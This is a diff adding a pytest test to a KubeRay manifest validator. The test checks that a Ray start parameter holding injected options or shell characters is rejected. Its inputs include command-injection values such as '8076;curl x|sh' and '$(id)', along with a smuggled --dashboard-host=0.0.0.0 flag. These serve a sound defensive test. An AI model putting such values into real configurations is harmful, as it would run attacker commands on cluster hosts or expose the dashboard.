@@ -1051,6 +1051,15 @@ def test_raycluster_dashboard_on_all_interfaces_fails(kuberay_docs):
     _assert_fails(cv.validate_kuberay_manifest(broken), "policy", "dashboard-host", "0.0.0.0")
 
 
+def test_a_ray_start_param_carrying_more_options_fails(kuberay_docs):
+    """KubeRay pastes ``--key=value`` unquoted into a bash line: a value with a space added a second
+    ``--dashboard-host=0.0.0.0`` (the last one wins) past the dashboard-host check."""
+    for value in ("8076 --dashboard-host=0.0.0.0", "8076;curl x|sh", "$(id)"):
+        broken = copy.deepcopy(kuberay_docs["raycluster"])
+        _head(broken)["rayStartParams"]["object-manager-port"] = value
+        _assert_fails(cv.validate_kuberay_manifest(broken), "policy", "object-manager-port", "shell character")
+
+
 def test_raycluster_without_dashboard_host_fails(kuberay_docs):
     # KubeRay's default is 0.0.0.0
     broken = copy.deepcopy(kuberay_docs["raycluster"])
